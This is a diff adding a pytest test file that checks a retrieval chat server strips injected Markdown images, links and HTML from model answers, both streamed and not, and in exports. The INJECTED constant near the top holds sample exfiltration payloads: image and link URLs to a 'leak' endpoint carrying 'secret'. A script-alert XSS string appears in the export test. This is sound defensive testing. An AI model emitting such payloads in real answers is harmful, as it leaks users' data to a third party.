@@ -1,0 +1,100 @@
+"""What an answer becomes before it is shown (sessions/answers.py): markup cleaned, links and images
+kept only when the user's sources hold their target, an empty or echoed answer replaced by a quote.
+
+The model is scripted (the OpenAI-compatible fake server behind the `openai` backend): what is under
+test is what the server does with whatever a model writes, on /chat (streamed or not), /v1 and the
+Markdown export."""
+from __future__ import annotations
+
+import json
+import re
+from typing import Any
+
+import pytest
+
+from api.streaming import parse_events
+from sessions.answers import SafeStream, clean, inert_markdown, neutralise
+from tests.test_remote_llm import QUESTION, fake, remote_app  # noqa: F401 - fixtures
+
+LEAK = "http://127.0.0.1:40585/leak?d="
+INJECTED = (f"The ferry leaves at 7:45. ![status]({LEAK}secret) See [the timetable]({LEAK}x) or "
+            f'<img src="{LEAK}y"> and <{LEAK}z>. Run dpkg --search <path> as the notes say.')
+def live(text: str) -> str:
+    """The text less its code spans: what a Markdown renderer could turn into a link or an image."""
+    return re.sub(r"`[^`]*`", "", text)
+
+
+SOURCES = "The harbour ferry leaves at 7:45. Run dpkg --search <path>. Details: [map](https://harbour.example/map)"
+
+
+def test_clean_removes_the_prompts_markup_and_a_preface() -> None:
+    assert clean('The answer to this question is: It left in 1977.</source>\n<|im_end|>') == "It left in 1977."
+    assert clean('<documents>\n<source id="1" file="a.pdf">\n</source>') == ""
+    assert clean("Use a < b and x > y.") == "Use a < b and x > y."
+
+
+def test_neutralise_keeps_only_targets_the_sources_hold() -> None:
+    safe = neutralise(INJECTED, SOURCES)
+    assert LEAK not in live(safe) and "<img" not in safe and f"`{LEAK}z`" in safe
+    assert "the timetable" in safe and "dpkg --search <path>" in safe  # the text and a placeholder stay
+    kept = neutralise("See [map](https://harbour.example/map).", SOURCES)
+    assert kept == "See [map](https://harbour.example/map)."
+
+
+@pytest.mark.parametrize("text", [INJECTED, "Plain [1] citation, then [a](b", "x <b>bold</b> y < z",
+                                  "![a](" + LEAK + "1)\n[b](c)", "[" * 5 + "]"])
+def test_a_streamed_answer_is_neutralised_piece_by_piece(text: str) -> None:
+    stream = SafeStream(SOURCES)
+    pieces = [stream.feed(character) for character in text] + [stream.flush()]
+    assert "".join(pieces) == neutralise(text, SOURCES)
+    assert not any(LEAK in live(piece) for piece in pieces)
+
+
+def test_exports_are_inert() -> None:
+    inert = inert_markdown(f"Look ![x]({LEAK}1) <script>alert(1)</script> a < b")
+    assert "![" not in inert and "<script" not in inert and "a < b" in inert
+
+
+def _v1(client: Any, account: Any, stream: bool) -> str:
+    body = {"model": "remote-qwen+rag", "messages": [{"role": "user", "content": QUESTION}], "stream": stream}
+    response = client.post("/v1/chat/completions", json=body, headers=account.headers)
+    assert response.status_code == 200, response.get_data(as_text=True)
+    if not stream:
+        return response.get_json()["choices"][0]["message"]["content"]
+    chunks = [json.loads(line[6:]) for line in response.get_data(as_text=True).splitlines()
+              if line.startswith("data: {")]
+    return "".join(chunk["choices"][0]["delta"].get("content") or "" for chunk in chunks)
+
+
+def test_an_injected_image_reaches_no_client(remote_app, fake) -> None:  # noqa: F811
+    fake.answer = INJECTED
+    client, account, session = remote_app()
+    streamed = parse_events(client.post("/chat/message", json={"sessionId": session, "message": QUESTION,
+                                                               "stream": True}, headers=account.headers)
+                            .get_data(as_text=True))
+    tokens = "".join(data["text"] for name, data in streamed if name == "token")
+    whole = client.post("/chat/message", json={"sessionId": session, "message": QUESTION},
+                        headers=account.headers).get_json()["reply"]["content"]
+    answers = {"chat stream": tokens, "chat done": streamed[-1][1]["reply"]["content"], "chat": whole,
+               "v1": _v1(client, account, False), "v1 stream": _v1(client, account, True)}
+    for where, answer in answers.items():
+        assert "7:45" in answer and LEAK not in live(answer) and "<img" not in answer, (where, answer)
+    exported = client.get(f"/chat/sessions/{session}/export?format=markdown", headers=account.headers)
+    assert LEAK not in live(exported.get_data(as_text=True)) and "<img" not in exported.get_data(as_text=True)
+
+
+def test_an_echoed_prompt_becomes_a_quote_of_the_best_passage(remote_app, fake) -> None:  # noqa: F811
+    fake.answer = '<documents>\n<source id="1" file="ferry.txt">\nHarbour timetable.'
+    client, account, session = remote_app()
+    body = client.post("/chat/message", json={"sessionId": session, "message": QUESTION},
+                       headers=account.headers).get_json()
+    reply = body["reply"]
+    assert reply["answer_kind"] == "quote" and reply["content"].startswith("Quoted from ferry.txt [1]:")
+    assert "> The harbour ferry leaves at 7:45 every morning from pier two." in reply["content"]
+    assert body["grounding"] is None and "<" not in reply["content"]
+    events = parse_events(client.post("/chat/message", json={"sessionId": session, "message": QUESTION,
+                                                             "stream": True}, headers=account.headers)
+                          .get_data(as_text=True))
+    tokens = "".join(data["text"] for name, data in events if name == "token")
+    assert tokens == events[-1][1]["reply"]["content"] == reply["content"]
+    assert "7:45" in _v1(client, account, False)
